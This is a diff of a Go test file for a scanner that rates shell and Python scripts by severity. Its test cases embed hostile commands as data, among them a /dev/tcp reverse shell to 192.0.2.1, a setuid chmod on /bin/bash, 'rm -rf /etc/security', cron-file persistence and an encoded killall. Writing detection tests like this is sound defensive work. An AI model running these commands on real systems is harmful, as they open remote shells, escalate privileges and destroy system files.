@@ -26,33 +26,39 @@ func script(others int, lines ...string) string {
 	return b.String()
 }
 
-func TestWeakSignsCountByTheLengthOfTheProgram(t *testing.T) {
-	const kill, user, read = "killall worker", "useradd worker", "cat /etc/worker.conf"
+func TestASignCountsWhateverTheLengthOfTheProgram(t *testing.T) {
+	const kill, install, read = "killall worker", "subprocess.run(['pip', 'install', 'worker==1.0'])\n", "os.chmod('/etc/worker.conf', 0o777)\n"
+	py := func(others int, lines ...string) string {
+		return "import os\nimport subprocess\n\n" + strings.Repeat("print('step')\n", others) + strings.Join(lines, "") + strings.Repeat("print('check')\n", others)
+	}
 	for _, c := range []struct {
-		name    string
-		text    string
-		changed gate.LineSet
-		rule    string
-		want    gate.Severity
+		name string
+		file string
+		text string
+		rule string
+		want gate.Severity
 	}{
-		{"one in a short program", script(29, kill), gate.LineSet{}, "process/shell-kill", gate.SeveritySuspicious},
-		{"one in a longer program", script(30, kill), gate.LineSet{}, "process/shell-kill", gate.SeverityNote},
-		{"several of one kind in a longer program", script(50, kill, "killall server", "killall client"), gate.LineSet{}, "process/shell-kill", gate.SeverityNote},
-		{"one act of two kinds, twice", script(50, "echo a > /etc/cron.d/a", "echo b > /etc/cron.d/b"), gate.LineSet{}, "persistence/shell-start-file", gate.SeverityNote},
-		{"two kinds on one line", script(50, kill+"; "+read), gate.LineSet{}, "process/shell-kill", gate.SeverityNote},
-		{"two kinds in a very long program", script(300, kill, user), gate.LineSet{}, "process/shell-kill", gate.SeveritySuspicious},
-		{"one that a small change adds to a long program", script(300, kill), gate.OnlyLines(gate.LineRange{150, 160}), "process/shell-kill", gate.SeveritySuspicious},
-		{"one in a large change", script(300, kill), gate.OnlyLines(gate.LineRange{100, 150}, gate.LineRange{160, 170}), "process/shell-kill", gate.SeverityNote},
-		{"beside what is dangerous", script(50, kill, "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"), gate.LineSet{}, "reverse-shell/shell-device", gate.SeverityDangerous},
-		{"one that more is known about", script(300, "chmod u+s /bin/bash"), gate.LineSet{}, "privilege/shell-permissions", gate.SeverityDangerous},
-		{"one whose path stands in a variable", "conf=/etc/security/limits.conf\necho 'max 10' > \"$conf\"\n", gate.LineSet{}, "file-write/shell-system-file", gate.SeverityNote},
-		{"one that can't be undone", script(300, "rm -rf /etc/security"), gate.LineSet{}, "deletion/shell-system-file", gate.SeveritySuspicious},
-		{"one that is encoded", script(300, "echo a2lsbGFsbCAtOSB3b3JrZXIgc2VydmVyIGNsaWVudCBzY2hlZHVsZXIK > x"), gate.LineSet{}, "process/shell-kill", gate.SeveritySuspicious},
+		{"one in a short script", "a.sh", script(1, kill), "process/shell-kill", gate.SeveritySuspicious},
+		{"one in a long script", "a.sh", script(300, kill), "process/shell-kill", gate.SeveritySuspicious},
+		{"a weak one alone in a short program", "a.py", py(0, install), "package-install/python", gate.SeverityNote},
+		{"a weak one alone in a long program", "a.py", py(200, install), "package-install/python", gate.SeverityNote},
+		{"a weak one, twice", "a.py", py(0, install, install), "package-install/python", gate.SeverityNote},
+		{"a weak one beside another kind", "a.py", py(0, install, read), "package-install/python", gate.SeveritySuspicious},
+		{"a weak one beside another kind in a long program", "a.py", py(200, install, read), "package-install/python", gate.SeveritySuspicious},
+		{"a weak one on the line of another kind", "a.py", py(0, strings.TrimSpace(install)+"; "+read), "package-install/python", gate.SeverityNote},
+		{"beside what is dangerous", "a.sh", script(50, kill, "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"), "reverse-shell/shell-device", gate.SeverityDangerous},
+		{"one that more is known about", "a.sh", script(300, "chmod u+s /bin/bash"), "privilege/shell-permissions", gate.SeverityDangerous},
+		{"one whose path stands in a variable", "a.sh", "conf=/etc/security/limits.conf\necho 'max 10' > \"$conf\"\n", "file-write/shell-system-file", gate.SeverityNote},
+		{"one that can't be undone", "a.sh", script(300, "rm -rf /etc/security"), "deletion/shell-system-file", gate.SeveritySuspicious},
+		{"one that is encoded", "a.sh", script(300, "echo a2lsbGFsbCAtOSB3b3JrZXIgc2VydmVyIGNsaWVudCBzY2hlZHVsZXIK > x"), "process/shell-kill", gate.SeveritySuspicious},
 	} {
 		t.Run(c.name, func(t *testing.T) {
-			o := run(t, newScanner(t, nil), fstest.MapFS{"a.sh": {Data: []byte(c.text)}},
-				&gate.Target{Path: "a.sh", Language: gate.LanguageShell, Kind: gate.ChangeModified, Lines: c.changed})
-			for _, f := range o.found["a.sh"] {
+			language := gate.LanguageShell
+			if strings.HasSuffix(c.file, ".py") {
+				language = gate.LanguagePython
+			}
+			o := run(t, newScanner(t, nil), fstest.MapFS{c.file: {Data: []byte(c.text)}}, &gate.Target{Path: c.file, Language: language})
+			for _, f := range o.found[c.file] {
 				if f.Rule == c.rule {
 					if f.Severity != c.want {
 						t.Errorf("%s on line %d is %s, want %s", f.Rule, f.Line, f.Severity, c.want)
